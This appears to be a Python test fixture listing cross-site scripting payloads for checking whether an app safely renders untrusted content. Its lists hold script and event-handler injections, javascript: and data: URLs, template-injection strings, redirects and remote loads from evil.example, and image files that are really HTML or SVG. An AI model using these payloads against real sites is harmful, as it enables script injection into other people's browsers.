"""What an app may write to be run, loaded or believed by the person's page."""

SCRIPT = "alert(document.domain)"

TEXTS = [
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"<img src=x onerror={SCRIPT}>",
    f'"><img src=x onerror={SCRIPT}>',
    f"'><svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    f"<iframe src=javascript:{SCRIPT}></iframe>",
    f"<a href=javascript:{SCRIPT}>here</a>",
    f"<body onload={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<audio src=x onerror={SCRIPT}>",
    f"<object data=javascript:{SCRIPT}></object>",
    f"<embed src=data:text/html,<script>{SCRIPT}</script>>",
    f"<form action=javascript:{SCRIPT}><button>x</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<style>@import 'https://evil.example/x.css';</style>{SCRIPT}",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<img src=https://evil.example/pixel.png>",
    f"javascript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    "https://evil.example/?q=<b>",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"${{{SCRIPT}}}",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;img src=x onerror={SCRIPT}&#62;",
    f"\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<x onpointerenter={SCRIPT} style=position:fixed;inset:0>x</x>",
    "__proto__",
    "constructor",
    f"<button popovertarget=x onclick={SCRIPT}>Allow</button>",
    "\u202e\u2066txet desrever\u2069\u202c",
]

# An SVG that runs, as a file and as an extension's view.
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'
HTML = f"<!doctype html><script>{SCRIPT}</script><h1>Sign in again</h1>"

FILES = {
    "x.svg": SVG.encode(),
    "x.html": HTML.encode(),
    f"<img src=x onerror={SCRIPT}>.png": SVG.encode(),
    "x.png": b"\x89PNG\r\n\x1a\n" + HTML.encode(),
    "x.gif": b"GIF89a" + HTML.encode(),
}
